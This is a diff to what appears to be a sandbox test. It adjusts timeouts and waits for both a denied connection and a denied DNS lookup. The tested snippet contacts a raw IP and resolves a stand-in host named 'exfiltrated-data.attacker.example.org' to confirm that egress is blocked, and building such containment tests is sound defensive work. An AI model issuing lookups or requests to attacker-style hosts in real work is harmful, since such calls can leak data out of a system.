@@ -24,7 +24,7 @@ ASK = """
 import socket, time, urllib.request, urllib.error
 began = time.monotonic()
 try:
-    urllib.request.urlopen("http://45.33.1.20/", timeout=5)
+    urllib.request.urlopen("http://45.33.1.20/", timeout=60)
 except urllib.error.HTTPError as error:
     print(error.code, error.read().decode().strip())
 except OSError as error:
@@ -33,7 +33,7 @@ try:
     print(socket.gethostbyname("exfiltrated-data.attacker.example.org"))
 except OSError as error:
     print("no name")
-print(time.monotonic() - began < 2)
+print(time.monotonic() - began < 30)
 """
 
 
@@ -56,11 +56,11 @@ def client(server: Served) -> Iterator[Client]:
 
 
 def denials(client: Client, sandbox: str) -> list[dict[str, Any]]:
-    """What its owner can read about it, once it is written."""
+    """What its owner can read about it, once it is written: the connection and the name that it was denied."""
     deadline = time.monotonic() + 60
     while time.monotonic() < deadline:
         found = [e for e in client.why(sandbox).events if e.type == "egress.denied"]
-        if found:
+        if len(found) >= 2:
             return [event.data for event in found]
         time.sleep(0.1)
     return []
